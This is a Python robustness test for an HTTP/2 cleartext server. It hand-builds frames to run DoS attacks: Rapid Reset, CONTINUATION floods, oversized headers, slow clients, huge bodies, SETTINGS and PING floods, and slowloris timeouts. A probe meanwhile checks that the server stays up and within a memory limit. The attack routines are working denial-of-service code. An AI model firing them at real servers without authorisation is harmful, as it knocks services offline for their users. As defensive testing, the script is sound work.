#!/usr/bin/env python3
"""HTTP/2 abuse test of an h2c server (issue 6: "HTTP/2 abuse").

Standard library only: raw sockets, hand-built HTTP/2 frames (RFC 9113) and
HPACK header blocks of literals without indexing and plain strings (RFC
7541 §6.2.2).  Attacks, each while a well-behaved client keeps asking for a
normal path:

  timeouts        a request body that never comes, a silent connection and
                  one with a zero window (only given the server's
                  --header-timeout-ms and --idle-timeout-ms)
  rapid_reset     thousands of HEADERS + RST_STREAM pairs (CVE-2023-44487)
  continuation    HEADERS without END_HEADERS, then endless CONTINUATION
                  frames (large ones, then empty ones; CVE-2024-27316 family)
  big_headers     too many header fields, too large a header list, a header
                  block split over several CONTINUATION frames
  slow_client     streams requesting a big response on a connection with a
                  zero flow-control window, and on one that never reads
  huge_body       a body beyond max_body, with and without content-length
  settings_flood  SETTINGS frames without ever reading the ACKs
  ping_flood      PING frames without ever reading the ACKs

After each attack (and during it, every 0.25 s) a probe (a fresh
connection, GET OK_PATH) must answer 200 within --probe-timeout seconds;
the server process (--pid) must still run and its resident memory
(/proc/PID/status VmRSS) must stay within --max-rss-growth-mb of what it
was before the first attack.

Usage: h2_abuse.py HOST:PORT [--pid PID] [--ok-path /v1/health]
                   [--probe-header 'NAME: VALUE'] [--big-path /big]
                   [--echo-path /echo] [--max-body N] [--only a,b]
                   [--scale F] [--min-seconds S]
                   [--header-timeout-ms N --idle-timeout-ms N]
Against an ASan build, run the server with ASAN_OPTIONS=quarantine_size_mb=16
(freed memory in quarantine would read as RSS growth).
Exits 0 when every check passed, 1 otherwise; prints one line per attack
with what the server did and the figures measured.
"""

import argparse
import os
import select
import socket
import struct
import sys
import threading
import time

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, \
    WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM = 0x1
ACK = 0x1
END_HEADERS = 0x4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
S_HEADER_TABLE_SIZE = 1
S_INITIAL_WINDOW_SIZE = 4
ERRORS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR",
          3: "FLOW_CONTROL_ERROR", 4: "SETTINGS_TIMEOUT", 5: "STREAM_CLOSED",
          6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL",
          9: "COMPRESSION_ERROR", 10: "CONNECT_ERROR",
          11: "ENHANCE_YOUR_CALM", 12: "INADEQUATE_SECURITY",
          13: "HTTP_1_1_REQUIRED"}


# ------------------------------------------------------------- framing

def frame(ftype, flags, sid, payload=b""):
    return (struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) +
            struct.pack(">I", sid & 0x7FFFFFFF) + payload)


def settings_frame(entries=()):
    return frame(SETTINGS, 0, 0,
                 b"".join(struct.pack(">HI", k, v) for k, v in entries))


def hpack_int(value, prefix, first=0):
    """RFC 7541 §5.1 integer with an N-bit prefix."""
    top = (1 << prefix) - 1
    if value < top:
        return bytes([first | value])
    out = [first | top]
    value -= top
    while value >= 128:
        out.append((value & 127) | 128)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_lit(name, value):
    """Literal header field without indexing, new name, plain strings."""
    return (b"\x00" + hpack_int(len(name), 7) + name +
            hpack_int(len(value), 7) + value)


def request_block(method, path, authority, extra=()):
    block = (hpack_lit(b":method", method) + hpack_lit(b":scheme", b"http") +
             hpack_lit(b":path", path) + hpack_lit(b":authority", authority))
    for name, value in extra:
        block += hpack_lit(name, value)
    return block


def _hpack_read_int(data, pos, prefix):
    top = (1 << prefix) - 1
    value = data[pos] & top
    pos += 1
    if value < top:
        return value, pos
    shift = 0
    while True:
        b = data[pos]
        pos += 1
        value += (b & 127) << shift
        shift += 7
        if not b & 128:
            return value, pos


def _huffman_digits(data):
    """Decodes a Huffman string made of digits only (RFC 7541 Appendix B:
    '0'-'2' are 5-bit codes 0-2, '3'-'9' 6-bit codes 0x19-0x1f), which is
    all a :status value holds.  None for anything else."""
    bits = "".join(format(b, "08b") for b in data)
    out = ""
    i = 0
    while i < len(bits):
        rest = bits[i:]
        if len(rest) < 8 and set(rest) == {"1"}:
            break  # EOS padding
        if len(rest) >= 5 and int(rest[:5], 2) <= 2:
            out += str(int(rest[:5], 2))
            i += 5
        elif len(rest) >= 6 and 0x19 <= int(rest[:6], 2) <= 0x1F:
            out += str(int(rest[:6], 2) - 0x19 + 3)
            i += 6
        else:
            return None
    return out


STATIC_STATUS = {8: "200", 9: "204", 10: "206", 11: "304", 12: "400",
                 13: "404", 14: "500"}


def hpack_status(block):
    """The :status of a response header block.  Our SETTINGS set the
    header table size to 0, so the server's encoder indexes nothing: the
    status is a static entry or a literal with a static name."""
    pos = 0
    while pos < len(block) and block[pos] & 0xE0 == 0x20:
        _, pos = _hpack_read_int(block, pos, 5)  # table size update
    if pos >= len(block):
        return None
    b = block[pos]
    if b & 0x80:
        idx, pos = _hpack_read_int(block, pos, 7)
        return STATIC_STATUS.get(idx)
    prefix = 6 if b & 0xC0 == 0x40 else 4
    idx, pos = _hpack_read_int(block, pos, prefix)
    if idx not in STATIC_STATUS:
        return None
    huff = block[pos] & 0x80
    length, pos = _hpack_read_int(block, pos, 7)
    raw = block[pos:pos + length]
    if huff:
        return _huffman_digits(raw)
    return raw.decode("ascii", "replace")


class Conn:
    """One client connection: frames out, frames in (blocking with a
    timeout, or polled)."""

    def __init__(self, host, port, settings=(), timeout=5.0):
        self.sock = socket.create_connection((host, port), timeout=timeout)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.buf = b""
        self.closed = False
        self.goaway = None
        entries = [(S_HEADER_TABLE_SIZE, 0)] + list(settings)
        self.send(PREFACE + settings_frame(entries))

    def send(self, data):
        self.sock.sendall(data)

    def _fill(self, timeout):
        self.sock.settimeout(timeout)
        try:
            chunk = self.sock.recv(65536)
        except socket.timeout:
            return False
        except (ConnectionResetError, BrokenPipeError):
            chunk = b""
        if not chunk:
            self.closed = True
            return False
        self.buf += chunk
        return True

    def read_frame(self, timeout=5.0):
        """The next frame (type, flags, sid, payload), or None on a timeout
        or once the server closed.  SETTINGS and PINGs are acknowledged;
        a GOAWAY is remembered in self.goaway."""
        deadline = time.monotonic() + timeout
        while True:
            if len(self.buf) >= 9:
                length = int.from_bytes(self.buf[:3], "big")
                if len(self.buf) >= 9 + length:
                    ftype, flags = self.buf[3], self.buf[4]
                    sid = int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
                    payload = self.buf[9:9 + length]
                    self.buf = self.buf[9 + length:]
                    self._auto(ftype, flags, payload)
                    return ftype, flags, sid, payload
            left = deadline - time.monotonic()
            if self.closed or left <= 0 or not self._fill(left):
                return None

    def poll_frames(self):
        """Every frame that can be read without waiting."""
        out = []
        while not self.closed:
            r, _, _ = select.select([self.sock], [], [], 0)
            if not r:
                if len(self.buf) < 9:
                    break
            elif not self._fill(0.5):
                break
            while True:
                if len(self.buf) < 9:
                    break
                length = int.from_bytes(self.buf[:3], "big")
                if len(self.buf) < 9 + length:
                    break
                f = self.read_frame(0)
                if f is None:
                    break
                out.append(f)
            if not r:
                break
        return out

    def _auto(self, ftype, flags, payload):
        try:
            if ftype == SETTINGS and not flags & ACK:
                self.send(frame(SETTINGS, ACK, 0))
            elif ftype == PING and not flags & ACK:
                self.send(frame(PING, ACK, 0, payload))
        except OSError:
            self.closed = True
        if ftype == GOAWAY and len(payload) >= 8:
            self.goaway = ERRORS.get(int.from_bytes(payload[4:8], "big"),
                                     str(int.from_bytes(payload[4:8], "big")))

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def response(conn, sid, timeout):
    """Reads until stream |sid| ends: (status, body length), with status
    'rst:<code>', 'goaway:<code>', 'closed' or 'timeout' when it does not
    end with a response."""
    status, body = None, 0
    deadline = time.monotonic() + timeout
    while True:
        left = deadline - time.monotonic()
        f = conn.read_frame(max(left, 0)) if left > 0 else None
        if f is None:
            if conn.goaway is not None and status is None:
                return "goaway:" + conn.goaway, body
            return (status or ("closed" if conn.closed else "timeout")), body
        ftype, flags, fsid, payload = f
        if ftype == GOAWAY and status is None:
            last = int.from_bytes(payload[:4], "big") & 0x7FFFFFFF
            if last < sid:
                return "goaway:" + (conn.goaway or "?"), body
        if fsid != sid:
            continue
        if ftype == HEADERS and status is None:
            status = hpack_status(payload) or "?"
        elif ftype == DATA:
            body += len(payload)
            if payload:
                conn.send(frame(WINDOW_UPDATE, 0, 0,
                                struct.pack(">I", len(payload))) +
                          frame(WINDOW_UPDATE, 0, sid,
                                struct.pack(">I", len(payload))))
        elif ftype == RST_STREAM:
            code = int.from_bytes(payload[:4], "big")
            return status or "rst:" + ERRORS.get(code, str(code)), body
        if ftype in (HEADERS, DATA) and flags & END_STREAM:
            return status, body


# --------------------------------------------------------------- probes

class Target:
    def __init__(self, args):
        host, _, port = args.address.rpartition(":")
        self.host = host.strip("[]")
        self.port = int(port)
        self.authority = args.address.encode()
        self.args = args
        self.probe_headers = []
        for h in args.probe_header or []:
            name, _, value = h.partition(":")
            self.probe_headers.append((name.strip().lower().encode(),
                                       value.strip().encode()))

    def conn(self, settings=(), timeout=5.0):
        return Conn(self.host, self.port, settings, timeout)

    def get(self, path, timeout=5.0, extra=()):
        c = self.conn(timeout=timeout)
        try:
            c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1,
                         request_block(b"GET", path.encode(), self.authority,
                                       extra)))
            return response(c, 1, timeout)
        finally:
            c.close()


def rss_kb(pid):
    if pid is None:
        return None
    try:
        with open("/proc/%d/status" % pid) as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1])
    except OSError:
        return None
    return None


class Prober(threading.Thread):
    """GET ok_path on a fresh connection every 0.25 s while an attack runs."""

    def __init__(self, target, pid):
        super().__init__(daemon=True)
        self.target = target
        self.pid = pid
        self.stop = threading.Event()
        self.ok = 0
        self.bad = []
        self.worst = 0.0
        self.peak_rss = 0

    def probe_once(self):
        t0 = time.monotonic()
        try:
            status, _ = self.target.get(self.target.args.ok_path,
                                        self.target.args.probe_timeout,
                                        self.target.probe_headers)
        except OSError as e:
            status = "error:" + e.__class__.__name__
        dt = time.monotonic() - t0
        self.worst = max(self.worst, dt)
        if status == "200" and dt <= self.target.args.probe_timeout:
            self.ok += 1
        else:
            self.bad.append("%s in %.2fs" % (status, dt))
        r = rss_kb(self.pid)
        if r is not None:
            self.peak_rss = max(self.peak_rss, r)

    def run(self):
        while not self.stop.is_set():
            self.probe_once()
            self.stop.wait(0.25)


# -------------------------------------------------------------- attacks

def attack_rapid_reset(t):
    """HEADERS + RST_STREAM(CANCEL) pairs, 100 per write, on connection
    after connection, until 10000 * scale pairs were sent."""
    total = int(10000 * t.args.scale)
    sent = conns = 0
    goaways = {}
    t0 = time.monotonic()
    while sent < total or time.monotonic() - t0 < t.args.min_seconds:
        c = t.conn()
        conns += 1
        sid = 1
        try:
            while not c.closed and (sent < total or
                                    time.monotonic() - t0 < t.args.min_seconds):
                batch = b""
                for _ in range(100):
                    batch += frame(HEADERS, END_HEADERS | END_STREAM, sid,
                                   request_block(b"GET",
                                                 t.args.ok_path.encode(),
                                                 t.authority))
                    batch += frame(RST_STREAM, 0, sid, struct.pack(">I", 8))
                    sid += 2
                c.send(batch)
                sent += 100
                c.poll_frames()
                if c.goaway is not None:
                    break
        except OSError:
            pass
        # What did the server say?
        deadline = time.monotonic() + 2
        while c.goaway is None and not c.closed and time.monotonic() < deadline:
            c.read_frame(0.2)
        g = c.goaway or ("closed" if c.closed else "none")
        goaways[g] = goaways.get(g, 0) + 1
        c.close()
    return "%d HEADERS+RST_STREAM pairs over %d connections; server ended them with %s" % (
        sent, conns, ", ".join("%s x%d" % kv for kv in sorted(goaways.items()))), True


def attack_continuation(t):
    """HEADERS without END_HEADERS then CONTINUATION frames: 16 KB ones
    (fresh header fields), then empty ones, until the server closes or
    64 MB * scale went out."""
    notes = []
    ok = True
    for kind in ("16KB", "empty"):
        c = t.conn()
        sent = frames = 0
        limit = int(64 * 1024 * 1024 * t.args.scale)
        outcome = "still open"
        try:
            c.send(frame(HEADERS, 0, 1, request_block(
                b"GET", t.args.ok_path.encode(), t.authority)))
            n = 0
            while sent < limit:
                if kind == "16KB":
                    block = b""
                    while len(block) < 16000:
                        block += hpack_lit(b"x-flood-%d" % n, b"v" * 200)
                        n += 1
                else:
                    block = b""
                f = frame(CONTINUATION, 0, 1, block) * (1 if block else 100)
                c.send(f)
                sent += len(f)
                frames += 1 if block else 100
                c.poll_frames()
                if c.closed or c.goaway is not None:
                    break
        except OSError as e:
            outcome = "send failed (%s)" % e.__class__.__name__
        deadline = time.monotonic() + 3
        while c.goaway is None and not c.closed and time.monotonic() < deadline:
            c.read_frame(0.2)
        if c.goaway is not None:
            outcome = "GOAWAY " + c.goaway
        elif c.closed:
            outcome = "closed"
        elif outcome == "still open":
            ok = False
        notes.append("%s frames: %s after %d frames (%d bytes)" %
                     (kind, outcome, frames, sent))
        c.close()
    return "; ".join(notes), ok


def attack_big_headers(t):
    """Too many fields, too large a list, and a list split over
    CONTINUATION frames: each must get 431 (or the stream/connection
    refused), never a 200."""
    cases = [
        ("200 fields", [(b"x-f%d" % i, b"v") for i in range(200)]),
        ("2 x 12 KB values", [(b"x-a", b"a" * 12000), (b"x-b", b"b" * 12000)]),
        ("60 KB in 4 CONTINUATIONs",
         [(b"x-c%d" % i, b"c" * 1000) for i in range(60)]),
    ]
    notes = []
    ok = True
    for name, extra in cases:
        c = t.conn()
        try:
            block = request_block(b"GET", t.args.ok_path.encode(), t.authority,
                                  extra)
            chunks = [block[i:i + 16000] for i in range(0, len(block), 16000)]
            out = b""
            for i, ch in enumerate(chunks):
                last = i == len(chunks) - 1
                if i == 0:
                    out += frame(HEADERS, END_STREAM | (END_HEADERS if last else 0),
                                 1, ch)
                else:
                    out += frame(CONTINUATION, END_HEADERS if last else 0, 1, ch)
            c.send(out)
            status, _ = response(c, 1, 5)
        except OSError as e:
            status = "error:" + e.__class__.__name__
        c.close()
        good = status == "431" or status.startswith(("rst:", "goaway:")) or \
            status == "closed"
        if t.args.expect_431 and status != "431":
            good = False
        ok = ok and good
        notes.append("%s -> %s" % (name, status))
    return "; ".join(notes), ok


def attack_slow_client(t):
    """A connection with a zero initial window asking for the big response
    on 100 streams, and one that never reads asking on 50 streams, both in
    waves of 10 (0.1 s apart); then both held open (no WINDOW_UPDATE, no
    reads) for --hold seconds."""
    big = t.args.big_path.encode()
    c1 = t.conn(settings=[(S_INITIAL_WINDOW_SIZE, 0)])
    c2 = t.conn()
    c2.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    for wave in range(10):
        for c, n in ((c1, 100), (c2, 50)):
            out = b""
            for i in range(wave * 10, min(n, wave * 10 + 10)):
                out += frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * i,
                             request_block(b"GET", big, t.authority))
            if out:
                c.sock.settimeout(2)
                try:
                    c.send(out)
                except OSError:
                    pass
        time.sleep(0.1)
    time.sleep(t.args.hold)
    # Still open?  (The server closes them on its idle timeout.)
    states = []
    for c in (c1, c2):
        r, _, _ = select.select([c.sock], [], [], 0)
        states.append("data waiting" if r else "quiet")
        c.close()
    return ("zero-window connection (100 x %s) and non-reading connection "
            "(50 x %s) held %.1fs: %s" % (t.args.big_path, t.args.big_path,
                                          t.args.hold, "/".join(states))), True


def send_body(t, declared, total):
    """POSTs |total| bytes to echo_path, flow controlled; |declared| is the
    content-length sent (None: none).  Returns (status, bytes sent)."""
    c = t.conn()
    extra = [] if declared is None else [(b"content-length",
                                          str(declared).encode())]
    c.send(frame(HEADERS, END_HEADERS, 1,
                 request_block(b"POST", t.args.echo_path.encode(),
                               t.authority, extra)))
    conn_win = stream_win = 65535
    sent = 0
    status = None
    chunk = b"z" * 16384
    deadline = time.monotonic() + 30
    try:
        while time.monotonic() < deadline:
            for ftype, flags, sid, payload in c.poll_frames():
                if ftype == WINDOW_UPDATE:
                    inc = int.from_bytes(payload[:4], "big") & 0x7FFFFFFF
                    if sid == 0:
                        conn_win += inc
                    elif sid == 1:
                        stream_win += inc
                elif sid == 1 and ftype == HEADERS and status is None:
                    status = hpack_status(payload) or "?"
                elif sid == 1 and ftype == RST_STREAM:
                    code = int.from_bytes(payload[:4], "big")
                    return status or "rst:" + ERRORS.get(code, str(code)), sent
            if c.closed:
                return status or "closed", sent
            if sent >= total:
                if status is not None:
                    return status, sent
                f = c.read_frame(5)
                if f is None:
                    return status or "timeout", sent
                if f[2] == 1 and f[0] == HEADERS:
                    status = hpack_status(f[3]) or "?"
                continue
            n = min(len(chunk), conn_win, stream_win, total - sent)
            if n <= 0:
                f = c.read_frame(5)
                if f is None:
                    return status or "stalled", sent
                ftype, flags, sid, payload = f
                if ftype == WINDOW_UPDATE:
                    inc = int.from_bytes(payload[:4], "big") & 0x7FFFFFFF
                    if sid == 0:
                        conn_win += inc
                    elif sid == 1:
                        stream_win += inc
                elif sid == 1 and ftype == HEADERS and status is None:
                    status = hpack_status(payload) or "?"
                elif sid == 1 and ftype == RST_STREAM:
                    code = int.from_bytes(payload[:4], "big")
                    return status or "rst:" + ERRORS.get(code, str(code)), sent
                continue
            last = sent + n >= total
            c.send(frame(DATA, END_STREAM if last else 0, 1, chunk[:n]))
            sent += n
            conn_win -= n
            stream_win -= n
        return status or "timeout", sent
    except OSError as e:
        return status or "error:" + e.__class__.__name__, sent
    finally:
        c.close()


def attack_huge_body(t):
    """A body of 4 x max_body: declared (content-length), and streamed
    without content-length.  Each must get 413."""
    mb = t.args.max_body
    notes = []
    ok = True
    for name, declared in (("declared", 4 * mb), ("undeclared", None)):
        status, sent = send_body(t, declared, 4 * mb)
        notes.append("%s %d bytes: %s after %d bytes sent" %
                     (name, 4 * mb, status, sent))
        ok = ok and status == "413"
    return "; ".join(notes), ok


def flood(t, make_frame, count):
    """Sends |count| frames without reading anything back."""
    c = t.conn()
    c.sock.settimeout(3)
    sent = 0
    outcome = "all sent"
    batch = make_frame() * 1000
    try:
        while sent < count:
            c.sock.sendall(batch)
            sent += 1000
    except socket.timeout:
        outcome = "server stopped reading (backpressure)"
    except OSError as e:
        outcome = "closed by server (%s)" % e.__class__.__name__
    if outcome == "all sent":
        # Drain what came back: the GOAWAY, if any.
        deadline = time.monotonic() + 3
        while not c.closed and c.goaway is None and time.monotonic() < deadline:
            try:
                c._fill(0.5)
                while len(c.buf) >= 9:
                    length = int.from_bytes(c.buf[:3], "big")
                    if len(c.buf) < 9 + length:
                        break
                    if c.buf[3] == GOAWAY:
                        code = int.from_bytes(c.buf[13:17], "big")
                        c.goaway = ERRORS.get(code, str(code))
                    c.buf = c.buf[9 + length:]
            except OSError:
                break
        if c.goaway is not None:
            outcome = "GOAWAY " + c.goaway
        elif c.closed:
            outcome = "closed"
    c.close()
    return sent, outcome


def attack_settings_flood(t):
    n = int(200000 * t.args.scale)
    sent, outcome = flood(t, lambda: settings_frame(), n)
    # Any reaction is fine (GOAWAY, close, backpressure, or ACKs that wait
    # in the socket buffers); the probes and the RSS are the checks.
    return "%d SETTINGS frames sent of %d, ACKs never read: %s" % (
        sent, n, outcome), True


def attack_ping_flood(t):
    n = int(200000 * t.args.scale)
    sent, outcome = flood(t, lambda: frame(PING, 0, 0, b"12345678"), n)
    return "%d PING frames sent of %d, ACKs never read: %s" % (
        sent, n, outcome), True


def attack_timeouts(t):
    """Slowloris and idle peers (only with --header-timeout-ms and
    --idle-timeout-ms): a request whose body never comes must be reset
    (RST_STREAM) within the header timeout (+1.5 s); a connection that sent
    nothing since, and one that never read its /big response (zero
    window), must be closed within the idle timeout (+1.5 s)."""
    hdr = t.args.header_timeout_ms / 1000.0
    idle = t.args.idle_timeout_ms / 1000.0
    notes = []
    ok = True
    slow = t.conn()
    slow.send(frame(HEADERS, END_HEADERS, 1, request_block(
        b"POST", t.args.echo_path.encode(), t.authority,
        [(b"content-length", b"100")])))
    stuck = t.conn(settings=[(S_INITIAL_WINDOW_SIZE, 0)])
    stuck.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request_block(
        b"GET", t.args.big_path.encode(), t.authority)))
    # Read (and acknowledge) what the server sends first, up to the
    # response's HEADERS: from then on, the zero-window peer is silent.
    t_stuck = time.monotonic()
    while not stuck.closed and time.monotonic() - t_stuck < 2:
        f = stuck.read_frame(0.5)
        t_stuck = time.monotonic()
        if f is None or (f[0] == HEADERS and f[2] == 1):
            break
    t0 = time.monotonic()
    status, _ = response(slow, 1, hdr + 1.5)
    dt = time.monotonic() - t0
    notes.append("body never sent: %s after %.1fs" % (status, dt))
    if not status.startswith("rst:") or dt > hdr + 1.5:
        ok = False
    # The silent connection's last frame was the server's RST_STREAM.
    limits = {"silent": hdr + idle + 1.5,
              "zero-window": idle + 1.5 - (t0 - t_stuck)}
    closed_at = {}
    conns = {"silent": slow, "zero-window": stuck}
    while len(closed_at) < 2 and time.monotonic() - t0 < hdr + idle + 3:
        for name, c in conns.items():
            if name not in closed_at:
                c.read_frame(0.1)
                if c.closed:
                    closed_at[name] = time.monotonic() - t0
    for name, c in conns.items():
        if name in closed_at:
            notes.append("%s connection closed after %.1fs" %
                         (name, closed_at[name]))
            ok = ok and closed_at[name] <= limits[name]
        else:
            notes.append("%s connection still open" % name)
            ok = False
        c.close()
    return "; ".join(notes), ok


def repeated(fn):
    """Runs an attack again and again for at least --min-seconds, so that
    the probes run while it goes on; the first round's note is kept."""
    def run(t):
        t0 = time.monotonic()
        note, ok = fn(t)
        rounds = 1
        while time.monotonic() - t0 < t.args.min_seconds:
            _, ok2 = fn(t)
            ok = ok and ok2
            rounds += 1
        if rounds > 1:
            note += " (x%d rounds)" % rounds
        return note, ok
    run.__doc__ = fn.__doc__
    return run


ATTACKS = [
    ("rapid_reset", attack_rapid_reset),
    ("continuation", repeated(attack_continuation)),
    ("big_headers", repeated(attack_big_headers)),
    ("slow_client", attack_slow_client),
    ("huge_body", repeated(attack_huge_body)),
    ("settings_flood", repeated(attack_settings_flood)),
    ("ping_flood", repeated(attack_ping_flood)),
    ("timeouts", attack_timeouts),
]


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("address", help="HOST:PORT of an h2c server")
    ap.add_argument("--pid", type=int, help="server process (RSS, liveness)")
    ap.add_argument("--ok-path", default="/v1/health")
    ap.add_argument("--probe-header", action="append",
                    help="NAME: VALUE sent with every probe (repeatable), "
                         "e.g. 'authorization: Bearer ...'")
    ap.add_argument("--big-path", default="/big",
                    help="a path with a big response (slow_client)")
    ap.add_argument("--echo-path", default="/echo",
                    help="a path that accepts a POST body (huge_body)")
    ap.add_argument("--max-body", type=int, default=1024 * 1024)
    ap.add_argument("--max-rss-growth-mb", type=float, default=200)
    ap.add_argument("--probe-timeout", type=float, default=2.0)
    ap.add_argument("--hold", type=float, default=3.0,
                    help="seconds slow clients are held open")
    ap.add_argument("--min-seconds", type=float, default=2.0,
                    help="each attack goes on at least this long")
    ap.add_argument("--scale", type=float, default=1.0,
                    help="multiplies the attack volumes")
    ap.add_argument("--no-expect-431", dest="expect_431",
                    action="store_false",
                    help="accept a reset instead of 431 for big headers")
    ap.add_argument("--header-timeout-ms", type=int,
                    help="the server's header timeout (enables 'timeouts')")
    ap.add_argument("--idle-timeout-ms", type=int,
                    help="the server's idle timeout (enables 'timeouts')")
    ap.add_argument("--only", help="comma-separated attacks to run")
    args = ap.parse_args()
    t = Target(args)
    only = set(args.only.split(",")) if args.only else None

    # Warm up: the server answers at all.
    status, _ = t.get(args.ok_path, 5, t.probe_headers)
    if status != "200":
        print("h2_abuse: FAIL: %s answers %s before any attack" %
              (args.ok_path, status))
        return 1
    base = rss_kb(args.pid)
    if base is not None:
        print("h2_abuse: server RSS before the attacks: %.1f MB" % (base / 1024))
    failed = 0
    for name, fn in ATTACKS:
        if only is not None and name not in only:
            continue
        if name == "timeouts" and (args.header_timeout_ms is None or
                                   args.idle_timeout_ms is None):
            continue
        prober = Prober(t, args.pid)
        prober.start()
        t0 = time.monotonic()
        try:
            note, ok = fn(t)
        except Exception as e:  # an attack that breaks is a failure too
            note, ok = "attack raised %r" % (e,), False
        dt = time.monotonic() - t0
        prober.stop.set()
        prober.join()
        prober.probe_once()  # and once more after it
        problems = []
        if not ok:
            problems.append("unexpected server reaction")
        if prober.bad:
            problems.append("probes failed: " + ", ".join(prober.bad[:5]))
        if args.pid is not None:
            try:
                os.kill(args.pid, 0)
            except OSError:
                problems.append("server process gone")
        rss = rss_kb(args.pid)
        growth = None
        if base is not None and rss is not None:
            peak = max(prober.peak_rss, rss)
            growth = (peak - base) / 1024
            if growth > args.max_rss_growth_mb:
                problems.append("RSS grew %.1f MB" % growth)
        line = "%s: %s | %.1fs, probes %d ok (worst %.3fs)" % (
            name, note, dt, prober.ok, prober.worst)
        if growth is not None:
            line += ", RSS peak +%.1f MB, now %.1f MB" % (growth, rss / 1024)
        if problems:
            failed += 1
            print("h2_abuse: FAIL: " + line + " -- " + "; ".join(problems))
        else:
            print("h2_abuse: ok: " + line)
        sys.stdout.flush()
    print("h2_abuse: %d attack(s) failed" % failed)
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
